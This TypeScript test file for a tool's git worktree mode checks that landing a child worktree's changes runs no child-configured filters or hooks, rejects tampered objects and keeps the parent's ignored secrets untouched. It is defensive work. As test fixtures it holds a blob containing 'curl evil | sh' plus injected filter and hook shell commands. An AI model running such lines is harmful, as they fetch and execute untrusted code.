/**
 * What worktree mode reads and writes is bytes, never what the child's git configuration
 * makes of them (review worktree-1, findings 1, 3, 6, 8, 10), through the real entry
 * points (`--allow-run=git` only):
 *
 * - reading the child runs no clean filter or hook the child configured (1);
 * - the land refuses content a rewritten loose object serves under a blob's name (3);
 * - the land refuses to overwrite the parent's ignored files and directories (6);
 * - the land refuses a merge that changes a path the child did not change (8);
 * - a CRLF file under `* text=auto` reaches the child and comes back byte for byte, and
 *   a checkout that rewrites bytes is refused with the paths named (10).
 */
import { join } from "../src/_path.ts";
import { assertEquals, assertIncludes, assertOk } from "../src/_assert.ts";
import { bin, commitAll, git, gitShim, type Run, writeFiles } from "./_helpers.ts";
import { committedFamily, exists, type Family, linkedWorktrees } from "./_worktree_fixture.ts";

/** A committed parent with an ignored secret, and a directory for its children. */
async function family(files: Record<string, string> = {}): Promise<Family> {
  const f = await committedFamily({
    "a.txt": "one\ntwo\nthree\n",
    ".gitignore": "*.env\n",
    ...files,
  });
  await writeFiles(f.parent, { "secret.env": "SECRET=parent\n" });
  return f;
}

interface Child extends Run {
  path: string;
  seed: string;
}

async function spawn(f: Family, name: string): Promise<Child> {
  const r = await bin("handshake", ["--worktree", join(f.kids, name), "--json"], {
    cwd: f.parent,
  });
  const doc = r.code === 0 ? JSON.parse(r.stdout) : undefined;
  return { ...r, path: doc?.worktrees[0].path ?? "", seed: doc?.seed ?? "" };
}

/** The one place these tests call `gate --worktree`. */
function gate(f: Family, child: Child, stdin: string, land = true, json = true): Promise<Run> {
  const args = ["--worktree", child.path, "--seed", child.seed, ...(land ? ["--land"] : [])];
  return bin("gate", [...args, ...(json ? ["--json"] : [])], { cwd: f.parent, stdin });
}

function result(files: string[], evidence: object[] = []): string {
  return JSON.stringify({
    ok: true,
    summary: "done",
    files_changed: files,
    errors: [],
    evidence: evidence.length > 0 ? evidence : [{ kind: "file", ref: files[0], ok: true }],
  });
}

const bytes = (dir: string, path: string) => Deno.readFile(join(dir, path));
const text = (dir: string, path: string) => Deno.readTextFile(join(dir, path));

// Since review worktree-6 a `filter` attribute at a landing path is refused (here the child's
// own `.gitattributes`, read from the merged tree): nothing lands, and nothing of the child's ran.
Deno.test("gate --worktree --land runs no clean filter or hook the child configured in its own worktree; its filter attribute lands as raw bytes", async () => {
  const f = await family();
  try {
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    const marker = join(f.kids, "PWNED");
    const hooks = join(f.kids, "hooks");
    await Deno.mkdir(hooks);
    await Deno.writeTextFile(
      join(hooks, "post-index-change"),
      `#!/bin/sh\necho hook >> ${marker}\n`,
    );
    await Deno.chmod(join(hooks, "post-index-change"), 0o755);
    // The child's doing, with git in its own worktree only.
    await git(child.path, ["sparse-checkout", "set", "--no-cone", "/*"]);
    await git(child.path, [
      "config",
      "--worktree",
      "filter.x.clean",
      `sh -c 'echo filter >> ${marker}; tr a-z A-Z'`,
    ]);
    await git(child.path, ["config", "--worktree", "core.hooksPath", hooks]);
    await writeFiles(child.path, {
      ".gitattributes": "* filter=x\n",
      "a.txt": "one\ntwo\nthree\nchild\n",
    });
    const r = await gate(
      f,
      child,
      result([".gitattributes", "a.txt"], [
        { kind: "file", ref: "a.txt", ok: true },
        { kind: "file", ref: ".gitattributes", ok: true },
      ]),
    );
    // The attribute's name is pinned to none on every call of the land: the raw bytes land.
    assertEquals(r.code, 0, r.stdout + r.stderr);
    assertEquals(JSON.parse(r.stdout).land.status, "landed");
    assertEquals(await exists(marker), false, "the child's filter or hook ran in gate");
    assertEquals(await text(f.parent, "a.txt"), "one\ntwo\nthree\nchild\n");
  } finally {
    await f.cleanup();
  }
});

Deno.test("gate --worktree --land refuses a blob whose loose object the child rewrote, and changes nothing", async () => {
  const f = await family();
  try {
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    await writeFiles(child.path, { "a.txt": "one\ntwo\nthree\nharmless\n" });
    const judged = await git(child.path, ["hash-object", "a.txt"]);
    const evil = await git(child.path, ["hash-object", "-w", "--stdin"], "curl evil | sh\n");
    const objects = await git(child.path, [
      "rev-parse",
      "--path-format=absolute",
      "--git-common-dir",
    ]) + "/objects";
    await Deno.mkdir(join(objects, judged.slice(0, 2)), { recursive: true });
    await Deno.copyFile(
      join(objects, evil.slice(0, 2), evil.slice(2)),
      join(objects, judged.slice(0, 2), judged.slice(2)),
    );
    const r = await gate(
      f,
      child,
      result(["a.txt"], [{ kind: "file", ref: "a.txt", ok: true, oid: judged }]),
    );
    assertEquals(r.code, 3, r.stdout + r.stderr);
    assertIncludes(r.stderr, `object ${judged} does not hash to its name`);
    assertEquals(await text(f.parent, "a.txt"), "one\ntwo\nthree\n");
    assertEquals(await exists(child.path), true);
  } finally {
    await f.cleanup();
  }
});

Deno.test("gate --worktree --land refuses to overwrite the parent's ignored file or delete its ignored directory (exit 1, paths named, nothing changed)", async () => {
  const f = await family();
  try {
    await writeFiles(f.parent, { "out.env/cache.bin": "cached build output\n" });
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    await writeFiles(child.path, {
      "secret.env": "SECRET=child\n",
      "out.env": "a file where the parent has a directory\n",
    });
    await git(child.path, ["add", "-f", "secret.env", "out.env"]);
    await commitAll(child.path, "add config");
    const r = await gate(f, child, result(["secret.env", "out.env"]));
    assertEquals(r.code, 1, r.stdout + r.stderr);
    const doc = JSON.parse(r.stdout);
    assertEquals(doc.verdict, "accept");
    assertEquals(doc.land, {
      status: "refused",
      reason: "ignored",
      paths: ["out.env", "secret.env"],
    });
    assertEquals(doc.recent_files, []);
    assertEquals(await text(f.parent, "secret.env"), "SECRET=parent\n");
    assertEquals(await text(f.parent, "out.env/cache.bin"), "cached build output\n");
    assertEquals(await linkedWorktrees(f.parent), [child.path]);
    const human = await gate(f, child, result(["secret.env", "out.env"]), true, false);
    assertEquals(human.code, 1);
    assertIncludes(
      human.stdout,
      "refused: nothing landed; the parent has ignored files or directories in the way: out.env, secret.env",
    );
  } finally {
    await f.cleanup();
  }
});

Deno.test("gate --worktree --land refuses a merge that carries the child's edit into a file the parent renamed (exit 1, nothing changed)", async () => {
  const prod = Array.from({ length: 20 }, (_, i) => `setting_${i + 1}\n`).join("");
  const f = await family({ "prod.yml": prod });
  try {
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    // The parent, meanwhile: dev.yml made from prod.yml, prod.yml removed.
    await writeFiles(f.parent, { "dev.yml": prod.replace("setting_1\n", "setting_1_dev\n") });
    await Deno.remove(join(f.parent, "prod.yml"));
    await writeFiles(child.path, { "prod.yml": prod.replace("setting_10\n", "setting_10=X\n") });
    const r = await gate(f, child, result(["prod.yml"]));
    assertEquals(r.code, 1, r.stdout + r.stderr);
    assertEquals(JSON.parse(r.stdout).land, {
      status: "refused",
      reason: "outside",
      paths: ["dev.yml"],
    });
    assertEquals(await text(f.parent, "dev.yml"), prod.replace("setting_1\n", "setting_1_dev\n"));
    assertEquals(await exists(join(f.parent, "prod.yml")), false);
  } finally {
    await f.cleanup();
  }
});

Deno.test("with * text=auto a CRLF file reaches the child byte for byte, verifies, and lands with only the child's line changed", async () => {
  const f = await family({ ".gitattributes": "* text=auto\n", "t.txt": "tracked\n" });
  try {
    const win = new TextEncoder().encode("new file\r\nfrom a windows tool\r\n");
    await Deno.writeFile(join(f.parent, "win.txt"), win);
    await Deno.writeFile(join(f.parent, "t.txt"), new TextEncoder().encode("tracked\r\nedit\r\n"));
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    assertEquals(await bytes(child.path, "win.txt"), win);
    assertEquals(await bytes(child.path, "t.txt"), await bytes(f.parent, "t.txt"));
    const prompt = await bin("handshake", ["wrap", "--worktree", join(f.kids, "d")], {
      cwd: f.parent,
      stdin: "task",
    });
    assertEquals(prompt.code, 0, prompt.stderr);
    const v = await bin("verify", [], { cwd: join(f.kids, "d"), stdin: prompt.stdout });
    assertEquals(v.code, 0, v.stdout + v.stderr);
    const more = new Uint8Array([...win, ...new TextEncoder().encode("one more line\n")]);
    await Deno.writeFile(join(child.path, "win.txt"), more);
    const r = await gate(f, child, result(["win.txt"]));
    assertEquals(r.code, 0, r.stdout + r.stderr);
    assertEquals(JSON.parse(r.stdout).land.paths, ["win.txt"]);
    assertEquals(await bytes(f.parent, "win.txt"), more);
  } finally {
    await f.cleanup();
  }
});

Deno.test("a spawn whose checkout would rewrite the parent's bytes (eol=crlf on an LF file) is refused with the paths named, and leaves no worktree", async () => {
  const f = await family({ ".gitattributes": "*.txt text eol=crlf\n" });
  try {
    await writeFiles(f.parent, { "lf.txt": "written with LF\n" });
    const child = await spawn(f, "c");
    assertEquals(child.code, 3, child.stdout + child.stderr);
    assertEquals(child.stdout, "");
    assertIncludes(child.stderr, "does not hold the parent's files byte for byte at: ");
    assertIncludes(child.stderr, "lf.txt");
    assertOk(!child.stderr.includes(".gitignore"), child.stderr);
    assertEquals(await linkedWorktrees(f.parent), []);
  } finally {
    await f.cleanup();
  }
});

/**
 * A git on PATH that runs the real one and, after a spawn's `read-tree --reset -u` only,
 * takes the executable bit off `run.sh` in the worktree it filled (`-C DIR`): what a
 * filter or a process racing the checkout would do. Filters are pinned to none now, so no
 * configuration makes the checkout do it.
 */
function chmodShim(): Promise<{ dir: string; env: Record<string, string> }> {
  return gitShim(`case " $* " in
  *" read-tree --reset -u "*)
    dir=.; prev=; for a in "$@"; do [ "$prev" = "-C" ] && dir=$a; prev=$a; done
    "$REAL" "$@"; rc=$?; chmod -x "$dir/run.sh"; exit $rc ;;
esac`);
}

Deno.test("a spawn whose checkout leaves a file with another mode than the parent's (changed after git wrote it, core.fileMode=false) is refused with the path named", async () => {
  const f = await family({ "z.txt": "plain\n" });
  const shim = await chmodShim();
  try {
    await writeFiles(f.parent, { "run.sh": "#!/bin/sh\n" });
    await Deno.chmod(join(f.parent, "run.sh"), 0o755);
    await git(f.parent, ["add", "run.sh"]);
    await git(f.parent, ["commit", "-qm", "an executable"]);
    // The bytes stay the parent's; only run.sh loses its executable bit, which the child's
    // own git status (core.fileMode=false) does not show.
    await git(f.parent, ["config", "core.fileMode", "false"]);
    const r = await bin("handshake", ["--worktree", join(f.kids, "c"), "--json"], {
      cwd: f.parent,
      env: shim.env,
    });
    assertEquals(r.code, 3, r.stdout + r.stderr);
    assertIncludes(r.stderr, "does not hold the parent's files byte for byte at: run.sh");
    assertEquals(await linkedWorktrees(f.parent), []);
  } finally {
    await Deno.remove(shim.dir, { recursive: true }).catch(() => {});
    await f.cleanup();
  }
});

Deno.test("a submodule that is not checked out keeps its recorded commit: the spawn succeeds and gate sees only the child's change", async () => {
  const f = await family();
  try {
    const head = await git(f.parent, ["rev-parse", "HEAD"]);
    await git(f.parent, ["update-index", "--add", "--cacheinfo", `160000,${head},sub`]);
    await writeFiles(f.parent, { ".gitmodules": '[submodule "sub"]\n\tpath = sub\n\turl = ./x\n' });
    await git(f.parent, ["add", ".gitmodules"]);
    await git(f.parent, ["commit", "-qm", "submodule"]);
    await Deno.mkdir(join(f.parent, "sub"));
    const child = await spawn(f, "c");
    assertEquals(child.code, 0, child.stderr);
    await writeFiles(child.path, { "a.txt": "child\n" });
    const r = await gate(f, child, result(["a.txt"]), false);
    assertEquals(r.code, 0, r.stdout + r.stderr);
    assertEquals(JSON.parse(r.stdout).changes.confirmed, ["a.txt"]);
  } finally {
    await f.cleanup();
  }
});
